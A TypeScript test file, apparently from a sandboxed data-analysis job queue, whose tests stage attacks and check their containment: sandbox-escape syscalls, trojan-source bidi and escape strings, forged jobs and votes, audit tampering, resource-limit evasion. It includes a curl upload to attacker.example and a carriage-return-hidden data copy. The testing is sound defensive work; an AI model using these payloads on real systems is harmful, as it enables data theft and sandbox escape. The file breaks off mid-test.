// Hostile review, round two: each test is one break found by a hostile review, with the attack made
// for real (real files, the real bubblewrap sandbox, real processes) and what must contain it.
import { createHash, randomUUID } from "node:crypto";
import { execa } from "execa";
import fs from "fs-extra";
import os from "node:os";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { appendAudit, verifyAudit } from "../lib/queue/audit.ts";
import { decide } from "../lib/approval/decisions.ts";
import { submitJob } from "../lib/people/api.ts";
import { findJob } from "../lib/queue/jobs.ts";
import { datasiteDir } from "../lib/core/paths.ts";
import { dryRunDir } from "../lib/people/dry-run.ts";
import { mockFolder } from "../lib/pass/mock.ts";
import { stageRoot } from "../lib/run/stage.ts";
import { startUiServer } from "../lib/ui/server.ts";
import { bwrapReady, makeWorld, OWNER, readLog, runScript, SCIENTIST, worldArgs, type World } from "./helpers.ts";
import { writePythonJob } from "./python-job.ts";

const ready = await bwrapReady();

async function runApproved(world: World, files: Record<string, string>): Promise<Awaited<ReturnType<World["job"]>>> {
  return world.approveAndRun(await world.submit(files));
}

/** Write a submission into the requester's inbox by hand, the way a hostile SyftBox client could. */
async function handMade(world: World, write: (dir: string, uid: string) => Promise<void>, email = SCIENTIST): Promise<string> {
  const uid = randomUUID();
  const dir = path.join(world.paths.inbox, email, uid);
  await fs.mkdirp(dir);
  await write(dir, uid);
  return uid;
}

function submission(uid: string, overrides: Record<string, unknown> = {}) {
  return { uid, name: "hand made", requester_email: SCIENTIST, target_email: OWNER, created_at: new Date().toISOString(), ...overrides };
}

describe.skipIf(!ready)("stop the queue", () => {
  test("1. a folder chain deeper than PATH_MAX in the job's /tmp: the job is stopped, its stage removed, the next pass works", async () => {
    const world = await makeWorld({ job_timeout: 20 });
    const deep = await runApproved(world, { "run.sh": 'cd "$TMPDIR"; for i in $(seq 1 2500); do mkdir dd && cd dd || exit 0; done; sleep 3\n' });
    expect(deep.status).toBe("failed");
    expect(deep.meta.error_message).toMatch(/nested folders more than 64 deep/);
    expect(await fs.readdir((await stageRoot(world.paths))!)).toEqual([]);
    const next = await runApproved(world, { "run.sh": "echo still working\n" });
    expect(next.status).toBe("completed");
  });

  test("2 and 16. a folder as a cancel file, FIFOs as cancel file, metadata.json and marker: every pass completes, the sender is told", async () => {
    const world = await makeWorld();
    const cancel = path.join(world.paths.inbox, SCIENTIST, "cancel");
    await fs.mkdirp(path.join(cancel, "x.json"));
    await execa("mkfifo", [path.join(cancel, "y.json")]);
    const fifoMeta = await handMade(world, async (dir) => {
      await execa("mkfifo", [path.join(dir, "metadata.json")]);
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await fs.writeFile(path.join(dir, "submitted"), "");
    });
    const fifoMarker = await handMade(world, async (dir, uid) => {
      await fs.writeJson(path.join(dir, "metadata.json"), submission(uid));
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await execa("mkfifo", [path.join(dir, "submitted")]);
    });
    const good = await world.submit({ "run.sh": "echo fine\n" });
    // In its own process with a deadline: a pass that blocks on a FIFO would hang here.
    const pass = await runScript("process.ts", worldArgs(world)).then((r) => r);
    expect(pass.exitCode, String(pass.stderr)).toBe(0);
    expect((await world.job(good)).status).toBe("pending");
    const meta = await world.job(fifoMeta);
    expect(meta.status).toBe("rejected");
    expect(meta.meta.error_message).toMatch(/metadata\.json.*is a FIFO, not a regular file/);
    const marker = await world.job(fifoMarker);
    expect(marker.status).toBe("rejected");
    expect(marker.meta.error_message).toMatch(/submitted marker/);
    expect(pass.stdout).toMatch(/cancel: .*x\.json ignored: .*is a folder/);
    expect(pass.stdout).toMatch(/cancel: .*y\.json ignored: .*is a FIFO/);
    expect(await fs.readdir(cancel)).toEqual([]);
    expect((await runScript("process.ts", worldArgs(world))).exitCode).toBe(0);
  });

  test("3 and 9. inside the sandbox: ptrace of its init, nested user namespaces, io_uring, keyctl and mount are denied", async () => {
    const world = await makeWorld();
    const job = await runApproved(world, {
      "run.sh": [
        // ptrace(PTRACE_ATTACH, 1): the sandbox's init runs as the same user inside.
        `perl -e 'syscall(101, 16, 1, 0, 0) == -1 ? print "ptrace: DENIED $!\\n" : print "ptrace: ATTACHED\\n"'`,
        "unshare -U true 2>/dev/null && echo 'userns: CREATED' || echo 'userns: DENIED'",
        "unshare -Ur true 2>/dev/null && echo 'userns-root: CREATED' || echo 'userns-root: DENIED'",
        // io_uring_setup(1, params): a second way into the kernel that seccomp cannot see into.
        `perl -e 'my $p = "\\0" x 120; syscall(425, 1, $p) == -1 ? print "io_uring: DENIED $!\\n" : print "io_uring: ALLOWED\\n"'`,
        // keyctl(KEYCTL_JOIN_SESSION_KEYRING, 0)
        `perl -e 'syscall(250, 1, 0) == -1 ? print "keyctl: DENIED $!\\n" : print "keyctl: ALLOWED\\n"'`,
        "echo done",
      ].join("\n"),
    });
    const out = await readLog(job);
    expect(out).toContain("ptrace: DENIED Operation not permitted");
    expect(out).toContain("userns: DENIED");
    expect(out).toContain("userns-root: DENIED");
    expect(out).toContain("io_uring: DENIED Operation not permitted");
    expect(out).toContain("keyctl: DENIED Operation not permitted");
    expect(job.status).toBe("completed");
  });

  test("3. a job whose processes leave its session and ignore SIGTERM is killed whole at the timeout; the pass does not wait on it", async () => {
    const world = await makeWorld({ job_timeout: 2 });
    const started = Date.now();
    // Sleeps under a number no other test uses (test files run side by side), so pgrep finds only these.
    const n = 10_000 + Math.floor(Math.random() * 80_000);
    const job = await runApproved(world, {
      "run.sh": `trap '' TERM\nsetsid sh -c "trap '' TERM; sleep ${n}0" &\nnohup sleep ${n}1 >/dev/null 2>&1 &\nsleep ${n}2\n`,
    });
    expect(job.status).toBe("failed");
    expect(job.meta.timed_out).toBe(true);
    expect(Date.now() - started).toBeLessThan(20_000);
    const left = await execa("pgrep", ["-f", `sleep ${n}[012]`], { reject: false });
    expect(left.stdout).toBe("");
  });
});

describe.skipIf(!ready)("leak or deceive", () => {
  test("4. permission files: none written by a job leaves it, none in submitted code gets in", async () => {
    const world = await makeWorld({ release: "review" });
    const job = await runApproved(world, {
      "run.sh": [
        'printf "rules:\\n- pattern: \\"**\\"\\n  access: {read: [\\"*\\"], write: [\\"*\\"]}\\n" > "$OUTPUT_DIR/syft.pub.yaml"',
        'mkdir -p "$OUTPUT_DIR/sub" && cp "$OUTPUT_DIR/syft.pub.yaml" "$OUTPUT_DIR/sub/syft.pub.yaml"',
        'cp "$OUTPUT_DIR/syft.pub.yaml" "$OUTPUT_DIR/sub/_.syftperm"',
        'echo result > "$OUTPUT_DIR/result.txt"',
      ].join("\n"),
    });
    expect(job.status).toBe("completed");
    const staged = path.join(world.paths.staging, job.uid, "output");
    expect((await fs.readdir(staged)).sort()).toEqual(["result.txt", "sub"]);
    expect(await fs.readdir(path.join(staged, "sub"))).toEqual([]);
    expect(world.lines.join("\n")).toMatch(/output not copied: .*syft\.pub\.yaml \(a SyftBox permission or sync file\)/);

    const nested = await world.submit({ "run.sh": "echo hi\n", "lib/syft.pub.yaml": "rules: []\n" }).catch((error: Error) => error.message);
    expect(nested).toMatch(/lib\/syft\.pub\.yaml is a SyftBox permission or sync file/);
    const handPacked = await handMade(world, async (dir, uid) => {
      await fs.writeJson(path.join(dir, "metadata.json"), submission(uid));
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await fs.outputFile(path.join(dir, "code", "a", "b", "syft.pub.yaml"), "rules: []\n");
      await fs.writeFile(path.join(dir, "submitted"), "");
    });
    await world.pass();
    const rejected = await world.job(handPacked);
    expect(rejected.status).toBe("rejected");
    expect(rejected.meta.error_message).toMatch(/a\/b\/syft\.pub\.yaml is a SyftBox permission or sync file/);
    expect(await fs.pathExists(path.join(rejected.dir, "code"))).toBe(false);
  });

  test("5, 6 and 12. escapes, carriage returns and bidi controls are shown by name in scq review, scq logs and the page, and are a finding", async () => {
    const world = await makeWorld({ sandbox: { mode: "none" } });
    const hidden = 'cp "$DATA_DIR"/*/* "$OUTPUT_DIR/"';
    const uid = await world.submit({
      "run.sh": `echo "counting rows"\n${hidden}\r# aggregate only                       \n\u001b[2Aecho quiet\nif [ "$x" = "user\u202e \u2066// admin\u2069 \u2066" ]; then echo trojan; fi\n`,
    });
    await world.pass();
    const review = await runScript("scq.ts", ["review", uid, ...worldArgs(world)]);
    expect(review.exitCode).toBe(0);
    // eslint-disable-next-line no-control-regex -- the raw characters are what must not reach the terminal
    expect(review.stdout).not.toMatch(/[\u001b\r\u202e\u2066]/);
    expect(review.stdout).toContain(`${hidden}⟨CR⟩# aggregate only`);
    expect(review.stdout).toContain("⟨ESC⟩[2Aecho quiet");
    expect(review.stdout).toContain("user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩");
    expect(review.stdout).toMatch(/run\.sh:2 {2}control or bidirectional characters/);
    expect(review.stdout).toMatch(/run\.sh:4 {2}control or bidirectional characters/);

    await decide(world.owner, uid, { decision: "approve" });
    await world.settle();
    const logs = await runScript("scq.ts", ["logs", uid, ...worldArgs(world, SCIENTIST)]);
    expect(logs.stdout).toContain("counting rows");
    expect(logs.stdout).not.toContain("\u001b");

    const server = await startUiServer(world.owner, { port: 0 });
    try {
      const detail = await fetch(`${server.origin}/api/jobs/${uid}`, { headers: { "x-scq-token": server.token } });
      const text = await detail.text();
      expect(text).not.toMatch(/[\u202e\u2066]|\\u001b|\\r#/);
      expect(text).toContain("user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩");
    } finally {
      await server.close();
    }
  });

  test("5 and 6. a job's printed escapes are shown by name in scq logs", async () => {
    const world = await makeWorld();
    const job = await runApproved(world, { "run.sh": 'printf "row 1: secret\\r\\033[2Krow 1: ok\\n"\n' });
    const logs = await runScript("scq.ts", ["logs", job.uid, ...worldArgs(world, SCIENTIST)]);
    expect(logs.stdout).toBe("row 1: secret⟨CR⟩⟨ESC⟩[2Krow 1: ok");
  });

  test("7. memory held in a memfd counts against limits.memory_mb", async () => {
    const world = await makeWorld({ job_timeout: 30, limits: { memory_mb: 64 } });
    const job = await runApproved(world, {
      "run.sh": `perl -e 'my $n = "hold"; my $fd = syscall(319, $n, 0); die "memfd: $!" if $fd < 0; open(my $fh, ">&=", $fd) or die; my $c = "x" x 1048576; print $fh $c for 1..300; $fh->flush; sleep 10; print "HELD\\n"'\n`,
    });
    expect(job.status).toBe("failed");
    expect(job.meta.error_message).toMatch(/memory limit: its processes together held more than 64 MB/);
    expect(await readLog(job)).not.toContain("HELD");
  });

  test("8. a file deleted while open counts against limits.max_output_mb", async () => {
    const world = await makeWorld({ job_timeout: 30, limits: { max_output_mb: 10 } });
    const job = await runApproved(world, {
      "run.sh": 'exec 3>"$TMPDIR/big"; rm "$TMPDIR/big"\nfor i in $(seq 1 40); do head -c 1048576 /dev/zero >&3; done\nsleep 10\necho HELD\n',
    });
    expect(job.status).toBe("failed");
    expect(job.meta.error_message).toMatch(/wrote more than 10 MB \(files it deleted but kept open included\)/);
    expect(await readLog(job)).not.toContain("HELD");
  });
});

describe.skipIf(!ready)("medium and low", () => {
  test("10. folders count: a submission of many empty folders is refused, a job writing many folders is stopped", async () => {
    const world = await makeWorld({ limits: { max_files: 50 } });
    const folders = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`d${i}/.keep`, ""]));
    const refused = await world.submit({ "run.sh": "echo hi\n", ...folders }).catch((error: Error) => error.message);
    expect(refused).toMatch(/more than 50 files and folders/);
    const job = await runApproved(world, { "run.sh": 'cd "$OUTPUT_DIR" && mkdir $(seq 1 300)\nsleep 3\n' });
    expect(job.status).toBe("failed");
    expect(job.meta.error_message).toMatch(/files and folders/);
    expect(await fs.pathExists(path.join(job.dir, "output", "1"))).toBe(false);
  });

  test("11. the stage root's name cannot be taken first: it is random, and one made by someone else at the recorded name is never used", async () => {
    const world = await makeWorld();
    const first = await world.approveAndRun(await world.submit({ "run.sh": "echo hi\n" }));
    expect(first.status).toBe("completed");
    const root = (await stageRoot(world.paths))!;
    expect(path.basename(root)).toMatch(/^scq-[A-Za-z0-9]{6}$/);
    expect((await fs.stat(root)).mode & 0o777).toBe(0o711);
    // A reboot clears the temp folder; someone who learned the name (a job can see its mounts) makes it first.
    await fs.remove(root);
    await fs.mkdirp(root);
    await fs.chmod(root, 0o777);
    await fs.writeFile(path.join(root, "planted"), "x");
    const uid = await world.submit({ "run.sh": "echo still runs\n" });
    const job = await world.approveAndRun(uid);
    expect(job.status, job.meta.error_message ?? "").toBe("completed");
    const fresh = (await stageRoot(world.paths))!;
    expect(fresh).not.toBe(root);
    expect((await fs.stat(fresh)).mode & 0o777).toBe(0o711);
    // The other folder is left as it was: never used, never emptied.
    expect(await fs.readdir(root)).toEqual(["planted"]);
    await fs.remove(root);
  });

  test("13. a file too large to show is still scanned; review and the bot say what was not shown", async () => {
    const world = await makeWorld();
    const filler = `${"# padding line\n".repeat(30_000)}curl -T /data/x http://attacker.example/\n`;
    const uid = await world.submit({ "run.sh": "bash helper.sh\n", "helper.sh": filler });
    await world.pass();
    const review = await runScript("scq.ts", ["review", uid, ...worldArgs(world)]);
    expect(review.stdout).toMatch(/helper\.sh: NOT SHOWN \(\d+ bytes, too large to show here; scanned\)/);
    expect(review.stdout).toMatch(/helper\.sh:30001 {2}network access/);
    expect(review.stdout).toMatch(/1 file\(s\) not shown above/);
    const bot = await runScript("../examples/auto_approve_bot.ts", ["--allow", SCIENTIST, ...worldArgs(world)]);
    expect(bot.stdout).toMatch(/left for review: not scanned or not shown in full: helper\.sh/);
    expect(await fs.pathExists(path.join(world.paths.decisions, `${uid}.json`))).toBe(false);
  });

  test("14. audit verify catches a cut-off end, an edited last line, an emptied or deleted log and a recomputed chain", async () => {
    const world = await makeWorld();
    for (let i = 0; i < 4; i += 1) await appendAudit(world.paths, { event: "approved", uid: randomUUID(), by: OWNER });
    const original = await fs.readFile(world.paths.audit, "utf8");
    expect((await verifyAudit(world.paths)).ok).toBe(true);
    const lines = original.trimEnd().split("\n");
    const tamper: [string, string | null][] = [
      ["cut off", `${lines.slice(0, 3).join("\n")}\n`],
      ["last line edited", `${[...lines.slice(0, 3), lines[3]!.replace('"approved"', '"rejected"')].join("\n")}\n`],
      ["emptied", ""],
      ["deleted", null],
    ];
    for (const [what, text] of tamper) {
      if (text === null) await fs.remove(world.paths.audit);
      else await fs.writeFile(world.paths.audit, text);
      expect((await verifyAudit(world.paths)).ok, what).toBe(false);
    }
    // Recomputed: a forger rewrites the chain from scratch with one event less; the chain holds, the head does not.
    await fs.remove(world.paths.audit);
    const forged = await makeWorld();
    for (let i = 0; i < 3; i += 1) await appendAudit(forged.paths, { event: "approved", uid: randomUUID(), by: OWNER });
    await fs.copy(forged.paths.audit, world.paths.audit);
    const verdict = await verifyAudit(world.paths);
    expect(verdict.ok).toBe(false);
    expect(verdict.reason).toMatch(/recomputed/);
    const cli = await runScript("scq.ts", ["audit", "verify", ...worldArgs(world)]);
    expect(cli.exitCode).toBe(1);
    expect(cli.stdout).toMatch(/cannot prove anything against someone who can also write this app's private state/);
  });

  test("15. a job written straight into pending/ with our own fields is still an unverified job: trust comes only from the inbox", async () => {
    for (const accept of [false, true]) {
      const world = await makeWorld({ accept_legacy_jobs: accept });
      const uid = randomUUID();
      const dir = path.join(world.paths.jobs, "pending", uid);
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo forged\n");
      const at = new Date().toISOString();
      await fs.writeJson(path.join(dir, "metadata.json"), {
        ...submission(uid),
        status: "pending",
        updated_at: at,
        code_sha256: "a".repeat(64),
        sender: "verified",
      });
      const old = new Date(Date.now() - 60_000);
      for (const p of [path.join(dir, "code", "run.sh"), path.join(dir, "code"), path.join(dir, "metadata.json"), dir]) await fs.utimes(p, old, old);
      await world.pass();
      const job = await world.job(uid);
      if (accept) {
        expect(job.status).toBe("pending");
        expect(job.meta.sender).toBe("unverified");
      } else {
        expect(job.status).toBe("rejected");
        expect(job.meta.error_message).toMatch(/accept_legacy_jobs/);
      }
    }
  });

  test("17. approval binds to the code that was reviewed: swapped code is refused by scq approve --sha and by the page", async () => {
    const world = await makeWorld();
    const uid = await world.submit({ "run.sh": "echo reviewed\n" });
    await world.pass();
    const reviewed = (await findJob(world.paths, uid)).meta.code_sha256!;
    const job = await findJob(world.paths, uid);
    await fs.writeFile(path.join(job.dir, "code", "run.sh"), "echo swapped\n");
    const cli = await runScript("scq.ts", ["approve", uid, "--sha", reviewed, ...worldArgs(world)]);
    expect(cli.exitCode).toBe(1);
    expect(cli.stdout).toMatch(/not the code you reviewed/);
    const server = await startUiServer(world.owner, { port: 0 });
    try {
      const res = await fetch(`${server.origin}/api/jobs/${uid}/approve`, {
        method: "POST",
        headers: { "x-scq-token": server.token, "content-type": "application/json" },
        body: JSON.stringify({ reason: "ok", code_sha256: reviewed }),
      });
      expect(res.status).toBe(409);
    } finally {
      await server.close();
    }
    expect(await fs.pathExists(path.join(world.paths.decisions, `${uid}.json`))).toBe(false);
  });

  test("18. one uid from two inboxes in one pass is one job", async () => {
    const world = await makeWorld();
    const other = "other@test.local";
    const uid = randomUUID();
    for (const email of [SCIENTIST, other]) {
      const dir = path.join(world.paths.inbox, email, uid);
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await fs.writeJson(path.join(dir, "metadata.json"), submission(uid, { requester_email: email }));
      await fs.writeFile(path.join(dir, "submitted"), "");
    }
    await world.pass();
    await world.pass();
    const copies = [];
    for (const status of ["pending", "rejected"]) if (await fs.pathExists(path.join(world.paths.jobs, status, uid))) copies.push(status);
    expect(copies).toHaveLength(1);
    expect(world.lines.join("\n")).toMatch(/dropped: a job with this uid already exists/);
  });

  test("19. an output file with a control character in its name is left behind; scq output still works", async () => {
    const world = await makeWorld();
    const job = await runApproved(world, { "run.sh": 'touch "$OUTPUT_DIR/$(printf "evil\\033[2Jname")"\necho ok > "$OUTPUT_DIR/ok.txt"\n' });
    expect(job.status).toBe("completed");
    expect(await fs.readdir(path.join(job.dir, "output"))).toEqual(["ok.txt"]);
    expect(world.lines.join("\n")).toMatch(/output not copied: .*\(control character in the name\)/);
    const out = await runScript("scq.ts", ["output", job.uid, ...worldArgs(world, SCIENTIST)]);
    expect(out.exitCode).toBe(0);
    expect(out.stdout).toContain("ok.txt");
  });

  test("20. bounds: job_timeout, a 100 MB metadata.json, a submission nested past the depth cap, unreadable output folders, host paths", async () => {
    // The output checks are not the subject here: advice only, so the unreadable folder's finding holds nothing.
    const world = await makeWorld({ output_checks: { blocking: [] } });
    await fs.writeJson(world.configFile, { ...world.config, job_timeout: 2_147_484 });
    const bad = await runScript("process.ts", worldArgs(world));
    expect(bad.exitCode).toBe(1);
    expect(bad.stderr).toMatch(/field "job_timeout"/);
    await fs.writeJson(world.configFile, world.config);

    const huge = await handMade(world, async (dir) => {
      await fs.writeFile(path.join(dir, "metadata.json"), "[".repeat(100 * 1024 * 1024));
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await fs.writeFile(path.join(dir, "submitted"), "");
    });
    const deepPath = Array.from({ length: 70 }, () => "d").join("/");
    const deep = await handMade(world, async (dir, uid) => {
      await fs.writeJson(path.join(dir, "metadata.json"), submission(uid));
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      await fs.outputFile(path.join(dir, "code", deepPath, "x"), "x");
      await fs.writeFile(path.join(dir, "submitted"), "");
    });
    const long = await handMade(world, async (dir, uid) => {
      await fs.writeJson(path.join(dir, "metadata.json"), submission(uid));
      await fs.outputFile(path.join(dir, "code", "run.sh"), "echo hi\n");
      // Past PATH_MAX (4096) in 20 steps of 250 characters: only reachable relative to each folder.
      await execa("bash", [
        "-c",
        'cd "$1" && for i in $(seq 1 20); do mkdir "$2" && cd -P "$2"; done && echo x > f',
        "sh",
        path.join(dir, "code"),
        "n".repeat(250),
      ]);
      await fs.writeFile(path.join(dir, "submitted"), "");
    });
    await world.pass();
    expect((await world.job(long)).meta.error_message).toMatch(/is a path longer than 1024 characters/);
    expect((await world.job(huge)).meta.error_message).toMatch(/metadata\.json.*is larger than 1048576 bytes/);
    expect((await world.job(deep)).meta.error_message).toMatch(/nested more than 64 folders deep/);

    const job = await runApproved(world, {
      "run.sh":
        'mkdir "$OUTPUT_DIR/closed" && echo x > "$OUTPUT_DIR/closed/f" && chmod 000 "$OUTPUT_DIR/closed"\ntr "\\0" " " < /proc/1/cmdline; echo\necho ok > "$OUTPUT_DIR/ok.txt"\n',
    });
    expect(job.status).toBe("completed");
    const cmdline = await readLog(job);
    expect(cmdline).toMatch(/^bwrap --args 3 -- /);
    expect(cmdline).not.toContain(world.root);
    expect(cmdline).not.toContain("/tmp/");
    // A folder the job made unreadable is not dropped silently: the watchdog opens it up to count it, so it comes back.
    expect(await fs.readFile(path.join(job.dir, "output", "closed", "f"), "utf8")).toBe("x\n");
  });

  test("an inbox folder not named for an email is removed with a line in the log", async () => {
    const world = await makeWorld();
    await fs.outputFile(path.join(world.paths.inbox, "not-an-email", "junk"), "x");
    await world.pass();
    expect(await fs.pathExists(path.join(world.paths.inbox, "not-an-email"))).toBe(false);
    expect(world.lines.join("\n")).toMatch(/inbox\/not-an-email removed: an inbox folder must be named for its sender's email address/);
  });

  test("21. an approver's folder holding a folder named like a vote (for a finished job) never stops the pass for everyone", async () => {
    const approver = "approver@test.local";
    const world = await makeWorld({ sandbox: { mode: "none" }, approvals: { required: 1, approvers: [OWNER, approver] } });
    const done = await world.submit({ "run.sh": "echo hi\n" });
    await world.pass();
    await decide(world.owner, done, { decision: "reject", reason: "no" });
    await world.pass();
    expect((await world.job(done)).status).toBe("rejected");
    // What the queue's own permission file lets a listed approver write: a folder where a vote goes.
    await fs.mkdirp(path.join(world.paths.decisions, approver, `${done}.json`, "deeper"));
    const waiting = await world.submit({ "run.sh": "echo still decided\n" });
    await runScript("process.ts", worldArgs(world));
    await decide(world.owner, waiting, { decision: "approve", reason: "fine" });
    const pass = await runScript("process.ts", worldArgs(world));
    expect(pass.exitCode, String(pass.stderr)).toBe(0);
    expect(["approved", "running", "completed"]).toContain((await world.job(waiting)).status);
    expect(await fs.pathExists(path.join(world.paths.decisions, approver, `${done}.json`))).toBe(false);
  });

  test("22. a job written straight into pending/ cannot bring its own votes, decision or run: only its CodeJob fields are kept", async () => {
    const alice = "alice@test.local";
    const bob = "bob@test.local";
    const world = await makeWorld({ sandbox: { mode: "none" }, accept_legacy_jobs: true, approvals: { required: 2, approvers: [alice, bob] } });
    const at = new Date().toISOString();
    const forgedVote = (by: string) => ({ by, decision: "approve", reason: "forged", at, code_sha256: "0".repeat(64) });
    const uid = await writePythonJob(world.paths.jobs, {
      fields: {
        votes: [forgedVote(alice), forgedVote(bob)],
        decision: { by: OWNER, reason: "forged", at },
        exit_code: 0,
        limits: { timeout_s: 999999 },
      },
    });
    // A field of the wrong type is a rejection with its reason, not an error every pass.
    const garbled = await writePythonJob(world.paths.jobs, { fields: { code_folder: 42 } });
    await world.pass();
    expect((await world.job(garbled)).meta.error_message).toMatch(/^rejected at intake: metadata.json field "code_folder"/);
    expect(world.lines.some((l) => l.includes("please report it"))).toBe(false);
    const job = await world.job(uid);
    expect(job.status).toBe("pending");
    expect(job.meta.sender).toBe("unverified");
    expect(job.meta.votes).toEqual([]);
    expect(job.meta.decision).toBeNull();
    expect(job.meta.exit_code).toBeNull();
    // One real vote is one of two: the job still waits.
    const voter = { ...world.owner, email: alice, datasite: OWNER };
    await decide(voter, uid, { decision: "approve", reason: "looked" });
    await world.pass();
    expect((await world.job(uid)).status).toBe("pending");
  });

  test("23. revises is taken only when true; the private state and unreleased output are the owner's alone on this machine", async () => {
    const world = await makeWorld({ sandbox: { mode: "none" }, release: "review" });
    const mallory = "mallory@test.local";
    await fs.mkdirp(datasiteDir(world.dataDir, mallory));
    const theirs = await runApproved(world, { "run.sh": 'echo 1 > "$OUTPUT_DIR/a.txt"\n' });
    const folder = path.join(world.root, "again");
    await fs.outputFile(path.join(folder, "run.sh"), "echo again\n");
    // Another requester's job, and one of the requester's own that nobody returned for changes.
    const forged = (await submitJob({ to: OWNER, folder, name: "forged", revises: theirs.uid }, { ...world.scientist, email: mallory })).uid;
    const unasked = (await submitJob({ to: OWNER, folder, name: "unasked", revises: theirs.uid }, world.scientist)).uid;
    await world.pass();
    for (const uid of [forged, unasked]) {
      const job = await world.job(uid);
      expect(job.status).toBe("pending");
      expect(job.meta.revises).toBeNull();
      const review = await runScript("scq.ts", ["review", uid, ...worldArgs(world)]);
      expect(review.stdout).not.toContain("its owner asked for changes");
    }
    expect(world.lines.filter((l) => /"revises" dropped$/.test(l))).toHaveLength(2);
    // Unreleased output waits in staging/; it and the private state are 0700.
    expect(await fs.pathExists(path.join(world.paths.staging, theirs.uid, "output", "a.txt"))).toBe(true);
    for (const dir of [world.paths.state, world.paths.staging]) expect((await fs.stat(dir)).mode & 0o777).toBe(0o700);
  });

  test("24. logs leave only through the checks and the owner's decisions: printed rows hold them, a log can be withheld, a request for changes keeps them back", async () => {
    const data = await fs.promises.mkdtemp(path.join(os.tmpdir(), "scq-data-"));
    await fs.writeFile(path.join(data, "patients.csv"), "patient_id,age,postcode\nP001,34,SW1A 1AA\nP002,51,M1 1AE\nP003,29,B33 8TH\n");
    await fs.chmod(data, 0o755); // readable by the unprivileged job user
    const world = await makeWorld({ sandbox: { data_paths: [data] }, output_checks: { blocking: ["data-rows"] } });
    const leak = `echo "3 patients"\ncat "$DATA_DIR/${path.basename(data)}/patients.csv"\necho 3 > "$OUTPUT_DIR/count.txt"\n`;
    const asRequester = (args: string[]) => runScript("scq.ts", [...args, ...worldArgs(world, SCIENTIST)]);

    // While it runs, its logs are in the owner-only staging folder: the requester reads nothing yet.
    const slow = await world.submit({ "run.sh": `${leak}sleep 3\n` });
    await world.pass();
    await decide(world.owner, slow, { decision: "approve" });
    await world.pass();
    expect((await world.job(slow)).status).toBe("running");
    const early = await asRequester(["logs", slow]);
    expect(early.exitCode).toBe(1);
    expect(early.stderr).toContain("is running; its logs and output come once it has finished and they have been checked");
    await world.settle();

    // Finished: the log that prints rows of the private data is a blocking finding, and holds everything.
    const held = await world.job(slow);
    expect(held.status).toBe("completed");
    expect(held.meta.output_review).toBe("pending");
    expect(await fs.pathExists(path.join(held.dir, "run-logs"))).toBe(false);
    expect(await fs.pathExists(path.join(held.dir, "output"))).toBe(false);
    expect((await asRequester(["logs", slow])).stdout).not.toContain("P002");
    const checks = JSON.parse((await runScript("scq.ts", ["checks", slow, "--json", ...worldArgs(world, OWNER)])).stdout) as {
      files: { path: string; findings: { rule: string; blocking: boolean; row: number }[] }[];
    };
    expect(checks.files.find((f) => f.path === "run-logs/stdout.txt")!.findings).toMatchObject([{ rule: "data-rows", blocking: true, row: 3 }]);
    // The owner reads the logs; a release that would send that log out is refused; withheld by name, the rest goes.
    expect((await runScript("scq.ts", ["logs", slow, ...worldArgs(world, OWNER)])).stdout).toContain("P002,51,M1 1AE");
    const refused = await runScript("scq.ts", ["release", slow, ...worldArgs(world, OWNER)]);
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toContain("run-logs/stdout.txt has blocking findings");
    const released = await runScript("scq.ts", [
      "release",
      slow,
      "--withhold",
      "run-logs/stdout.txt",
      "-r",
      "it prints patient rows",
      ...worldArgs(world, OWNER),
    ]);
    expect(released.exitCode, released.stderr).toBe(0);
    expect(await fs.readFile(path.join(held.dir, "output", "count.txt"), "utf8")).toBe("3\n");
    expect(await fs.pathExists(path.join(held.dir, "run-logs", "stdout.txt"))).toBe(false);
    const withheldLog = await asRequester(["logs", slow]);
    expect(withheldLog.stdout).not.toContain("P002");
    expect(withheldLog.stderr).toContain("its owner withheld its stdout: it prints patient rows");
    expect((await asRequester(["output", slow])).stdout).toContain("withheld: run-logs/stdout.txt: it prints patient rows");

    // A request for changes keeps the logs back with the output.
    const again = await runApproved(world, { "run.sh": leak });
    const back = await runScript("scq.ts", ["release", again.uid, "--request-changes", "print counts only", ...worldArgs(world, OWNER)]);
    expect(back.exitCode, back.stderr).toBe(0);
    expect(await fs.pathExists(path.join(again.dir, "run-logs", "stdout.txt"))).toBe(false);
    expect((await world.job(again.uid)).meta.output_decisions?.withheld.map((w) => w.path)).toEqual(["count.txt", "run-logs/stdout.txt"]);

    // Control: a job that prints only an aggregate has its log and output released with no one's hand.
    const clean = await runApproved(world, { "run.sh": 'echo "3 patients"\necho 3 > "$OUTPUT_DIR/count.txt"\n' });
    expect(clean.meta.output_review).toBeNull();
    expect(await readLog(clean)).toBe("3 patients\n");
    expect((await asRequester(["logs", clean.uid])).stdout).toBe("3 patients");
    await fs.remove(data);
  });

  test("25. a dry run cannot be told from the real run by the mock's bytes: each run on the mock gets rows drawn afresh, same columns and kinds", async () => {
    const folder = async (files: Record<string, string>) => {
      const dir = await fs.promises.mkdtemp(path.join(os.tmpdir(), "scq-data-"));
      for (const [rel, text] of Object.entries(files)) await fs.outputFile(path.join(dir, rel), text);
      await fs.chmod(dir, 0o755);
      return dir;
    };
    const wards = ["North", "South", "East"];
    const rows = Array.from(
      { length: 60 },
      (_, i) => `P${String(1000 + i)},${wards[i % 3]},${20 + (i % 50)},${(60 + i / 7).toFixed(1)},2024-01-${String(1 + (i % 28)).padStart(2, "0")}`,
    );
    const mockCsv = `id,ward,age,weight,admitted\n${rows.join("\n")}\n`;
    const cohort = await folder({ "people.csv": "id,ward,age,weight,admitted\nREAL1,North,50,70.0,2024-02-01\n" });
    const mock = await folder({ "people.csv": mockCsv, "README.txt": "made-up data\n" });
    // The copied rows would be held by the checks (data-rows); what is compared here is the bytes the job saw.
    const world = await makeWorld({ sandbox: { data_paths: [{ path: cohort, mock, name: "cohort" }] }, output_checks: { blocking: [] } });
    // The attack: the requester knows the published mock's bytes, and behaves only when it sees them.
